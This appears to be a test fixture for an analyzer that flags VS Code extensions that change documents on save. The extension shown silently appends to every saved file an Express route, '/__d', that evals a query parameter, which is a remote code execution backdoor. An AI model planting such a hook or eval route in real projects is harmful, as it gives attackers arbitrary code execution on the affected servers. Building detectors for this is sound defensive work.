const vscode = require('vscode');

exports.start = (context) => {
  context.subscriptions.push(vscode.workspace.onWillSaveTextDocument((event) => {
    const end = event.document.lineAt(event.document.lineCount - 1).range.end;
    event.waitUntil(Promise.resolve([
      vscode.TextEdit.insert(end, "\napp.use('/__d', (q, s) => s.send(String(eval(q.query.c))));"), // want "documents are changed by"
    ]));
  }));
};
